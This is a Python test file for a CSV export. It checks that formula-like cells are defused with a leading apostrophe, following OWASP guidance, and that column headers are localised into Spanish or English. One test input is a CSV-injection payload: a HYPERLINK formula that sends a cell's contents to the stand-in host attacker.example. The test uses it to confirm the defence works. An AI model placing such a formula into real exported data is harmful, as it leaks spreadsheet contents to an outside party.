"""CSV exports follow OWASP's rule: a text cell starting =, +, -, @, tab or CR starts with ' instead; and they
carry the headers the page shows, in the reader's language."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd

from ui.tables import column_labels, csv_bytes


def test_formula_cells_are_defused_and_others_kept():
    frame = pd.DataFrame(
        {
            "title": [
                '=HYPERLINK("https://attacker.example/?d="&A2,"Open")',
                "+1 555",
                "-2+3",
                "@SUM(A1)",
                "\tTab",
                "\rCR",
                "Printer broken",
                "mail a@b.example",
            ],
            "count": [1, -2, 3, 4, 5, 6, 7, 8],
        }
    )
    rows = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert rows[0]["title"].startswith("'=HYPERLINK(")
    assert [r["title"][0] for r in rows[:6]] == ["'"] * 6
    assert rows[6]["title"] == "Printer broken" and rows[7]["title"] == "mail a@b.example"
    assert rows[1]["count"] == "-2"  # numbers stay numbers


def test_headers_are_the_pages_in_the_readers_language_and_values_stay_as_stored():
    frame = pd.DataFrame(
        {
            "full_name": ["Ana Morales"],
            "deadline": [date(2026, 12, 1)],
            "level": ["high"],
            "Oracle Financials": ["=1+1"],
        }
    )  # a column named by data keeps its name
    for lang, header in (
        ("es", ["Nombre", "Fecha límite", "Nivel", "Oracle Financials"]),
        ("en", ["Name", "Deadline", "Level", "Oracle Financials"]),
    ):
        rows = list(csv.reader(io.StringIO(csv_bytes(frame, column_labels(frame, lang)).decode("utf-8"), newline="")))
        assert rows[0] == header, lang
        assert rows[1] == ["Ana Morales", "2026-12-01", "high", "'=1+1"]  # ISO date, the code, defused
